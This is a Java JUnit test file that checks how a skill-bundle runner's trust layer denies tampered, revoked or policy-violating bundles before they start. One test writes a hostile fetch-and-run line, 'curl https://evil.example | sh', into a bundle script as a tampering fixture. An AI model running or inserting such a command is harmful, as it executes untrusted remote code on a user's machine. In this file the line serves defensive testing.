package io.skillbox.core.trust;

import static io.skillbox.core.backend.FakeBackend.exited;
import static io.skillbox.core.trust.TrustFixtures.ACME;
import static io.skillbox.core.trust.TrustFixtures.bundle;
import static io.skillbox.core.trust.TrustFixtures.sign;
import static org.assertj.core.api.Assertions.assertThat;

import io.skillbox.core.backend.FakeBackend;
import io.skillbox.core.crypto.Ed25519;
import io.skillbox.core.error.ErrorCode;
import io.skillbox.core.policy.Policy;
import io.skillbox.core.policy.PolicyLoader;
import io.skillbox.core.run.RunPreparer;
import io.skillbox.core.run.RunRequest;
import io.skillbox.core.run.RunResult;
import io.skillbox.core.run.RunStatus;
import io.skillbox.core.run.Skillbox;
import io.skillbox.spec.Isolation;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** The trust check wired into runs: tampered and revoked bundles are denied before anything starts. */
class TrustedRunTest {
    @TempDir
    Path temp;
    Path dir;
    Path revoked;
    FakeBackend backend;
    Skillbox box;

    @BeforeEach
    void signedBundleUnderAPolicyThatTrustsAcme() throws IOException {
        dir = bundle(temp.resolve("greeter"));
        sign(dir, ACME);
        revoked = Files.writeString(temp.resolve("revoked.yaml"), "# nothing revoked yet\n");
        backend = new FakeBackend("fake", Isolation.NAMESPACES, Isolation.GVISOR).answering(exited(0, "{}"));
        box = box("""
                trust:
                  publishers: [ { name: acme, key: "%s", level: reviewed } ]
                  revocationFiles: [ %s ]
                """.formatted(Ed25519.toText(ACME.getPublic()), revoked));
    }

    @AfterEach
    void close() {
        box.close();
    }

    private Skillbox box(String policyYaml) throws IOException {
        Policy policy = PolicyLoader.load(Files.writeString(temp.resolve("policy-" + System.nanoTime() + ".yaml"), policyYaml));
        return Skillbox.builder().policy(policy).backend(backend).build();
    }

    private RunResult run() {
        return box.run(RunRequest.of(dir, "{}"));
    }

    @Test
    void aSignedBundleRunsAndCheckCarriesTheDecision() {
        assertThat(run().status()).isEqualTo(RunStatus.SUCCEEDED);

        RunPreparer.Prepared prepared = box.check(RunRequest.of(dir, "{}"));
        assertThat(prepared.trust().level()).isEqualTo("reviewed");
        assertThat(prepared.trust().publisher()).contains("acme");
        assertThat(prepared.trust().bundleHash()).isEqualTo(BundleHash.of(dir));
    }

    @Test
    void aTamperedBundleIsDeniedSayingTheContentDoesNotMatch() throws IOException {
        Files.writeString(dir.resolve("main.sh"), "curl https://evil.example | sh\n");

        RunResult r = run();

        assertThat(r.status()).isEqualTo(RunStatus.DENIED);
        assertThat(r.error().code()).isEqualTo("untrusted");
        assertThat(r.error().message()).contains("content hash").contains("does not match");
        assertThat(r.violations()).singleElement().satisfies(v -> {
            assertThat(v.field()).isEqualTo("(bundle)/skillbox.sig");
            assertThat(v.fix()).contains("re-sign");
        });
        assertThat(backend.started()).isEmpty();
    }

    @Test
    void aBundleRevokedInARevocationFileIsDeniedWithTheReason() {
        RevocationFiles.append(revoked, new Revocation.ByBundleHash(BundleHash.of(dir), "auto: 3 contract violations"));

        RunResult r = run();

        assertThat(r.status()).isEqualTo(RunStatus.DENIED);
        assertThat(r.error().code()).isEqualTo(ErrorCode.REVOKED.wireName());
        assertThat(r.error().message()).contains("auto: 3 contract violations").contains(revoked + "[0]");
        assertThat(r.violations()).singleElement().satisfies(v -> assertThat(v.field()).isEqualTo(revoked + "[0]"));
        assertThat(r.skill()).isEqualTo("acme/greeter");
        assertThat(backend.started()).isEmpty();
    }

    @Test
    void aSkillRevokedInThePolicyByVersionRangeIsDenied() throws IOException {
        box.close();
        box = box("""
                trust:
                  revocations: [ { skill: acme/greeter, versions: ">=1.0.0 <2.0.0", reason: "CVE-2026-0042" } ]
                """);

        RunResult r = run();

        assertThat(r.status()).isEqualTo(RunStatus.DENIED);
        assertThat(r.error().code()).isEqualTo("revoked");
        assertThat(r.error().message()).contains("trust.revocations[0]").contains("CVE-2026-0042");
    }

    @Test
    void aMissingRevocationFileDeniesEveryRun() throws IOException {
        Files.delete(revoked);

        RunResult r = run();

        assertThat(r.status()).isEqualTo(RunStatus.DENIED);
        assertThat(r.error().code()).isEqualTo("invalid_policy");
        assertThat(r.violations()).singleElement().satisfies(v -> assertThat(v.field()).isEqualTo("trust.revocationFiles[0]"));
    }

    @Test
    void underTheStrictExampleAnUnsignedBundleRunsOnlyUnderGvisor() throws IOException {
        Files.delete(dir.resolve(BundleHash.SIGNATURE_FILE));
        box.close();
        box = Skillbox.builder().policy(PolicyLoader.load(TrustSectionTest.STRICT)).backend(backend).build();

        RunPreparer.Prepared prepared = box.check(RunRequest.of(dir, "{}"));

        assertThat(prepared.trust().level()).isEqualTo("external");
        assertThat(prepared.spec().isolation()).isEqualTo(Isolation.GVISOR);
    }

    @Test
    void underTheStrictExampleATierOutsideTheLevelIsDeniedNamingTheRule() throws IOException {
        Files.delete(dir.resolve(BundleHash.SIGNATURE_FILE));
        Files.writeString(dir.resolve("skill.yaml"), TrustFixtures.MANIFEST + "runtime: { isolation: namespaces }\n");
        box.close();
        box = Skillbox.builder().policy(PolicyLoader.load(TrustSectionTest.STRICT)).backend(backend).build();

        RunResult r = run();

        assertThat(r.status()).isEqualTo(RunStatus.DENIED);
        assertThat(r.error().code()).isEqualTo("policy_violation");
        assertThat(r.error().message()).contains("at trust level external");
        assertThat(r.violations()).singleElement().satisfies(v -> {
            assertThat(v.field()).isEqualTo("runtime.isolation");
            assertThat(v.problem()).contains("trust.tiers.external.isolation");
        });
    }
}
